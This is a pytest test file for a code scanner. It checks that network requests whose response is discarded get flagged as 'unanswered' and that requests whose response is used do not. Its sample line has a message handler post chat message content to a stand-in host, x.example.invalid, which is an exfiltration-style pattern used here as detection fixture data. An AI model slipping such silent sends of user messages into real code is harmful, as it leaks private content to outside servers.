"""A request whose answer nobody looks at is told from one that is used."""

import pytest

from scanners.facts import Act, Trick
from tests.scanners.python.conftest import Read

SEND = 'requests.post("https://x.example.invalid/a", json={"t": message.content})'
DISCARDED = {
    "statement": f"{SEND}",
    "closed": f"{SEND}.close()",
    "empty block": f"with {SEND}:\n        pass",
}
USED = {
    "checked": f"{SEND}.raise_for_status()",
    "returned": f"return {SEND}",
    "assigned": f"answer = {SEND}\n    return answer.text",
    "shown": f"print({SEND}.text)",
    "read in a block": f"with {SEND} as answer:\n        return answer.text",
}


def is_unanswered(read: Read, body: str) -> bool:
    facts = read(f"import requests\ndef on_message(message):\n    {body}\n").facts
    (sent,) = [fact for fact in facts if fact.act is Act.NETWORK_SEND]
    return Trick.UNANSWERED in sent.tricks


@pytest.mark.parametrize("name", DISCARDED)
def test_answer_thrown_away_is_noted(read_python: Read, name: str) -> None:
    assert is_unanswered(read_python, DISCARDED[name])


@pytest.mark.parametrize("name", USED)
def test_answer_that_is_used_is_not_noted(read_python: Read, name: str) -> None:
    assert not is_unanswered(read_python, USED[name])
